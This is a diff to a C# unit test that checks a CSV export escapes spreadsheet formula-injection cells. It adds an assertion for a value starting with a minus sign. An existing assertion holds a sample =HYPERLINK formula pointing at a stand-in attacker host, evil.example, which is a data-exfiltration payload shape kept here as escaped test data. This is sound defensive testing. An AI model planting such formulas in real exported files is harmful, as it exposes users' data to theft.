@@ -47,6 +47,7 @@ public sealed class csv_formulas_and_broken_files(HostFixture host) : IClassFixt
         Assert.Equal(4, rows.Count);
         Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && FormulaStarts.Contains(cell[0]), $"live formula cell: {cell}"));
         Assert.Contains($"\"'=HYPERLINK(\"\"http://evil.example/?{u}\"\",\"\"Click\"\")\"", text, StringComparison.Ordinal);
+        Assert.Contains($",\"'-Minus {u}\",", text, StringComparison.Ordinal);
         var cells = rows.SelectMany(r => r).ToHashSet();
         Assert.Contains("'@SUM(A1:A9)", cells);
         Assert.Contains("'+86 138 0000 0000", cells);
